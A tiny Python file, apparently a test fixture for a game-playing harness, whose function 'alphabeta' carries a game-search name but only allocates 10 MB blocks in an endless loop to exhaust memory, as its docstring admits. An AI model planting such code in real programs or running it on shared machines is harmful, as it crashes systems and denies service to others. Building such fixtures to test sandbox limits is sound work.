"""Takes all the memory there is."""


def alphabeta(game, state):
    kept = []
    while True:
        kept.append(bytearray(10_000_000))
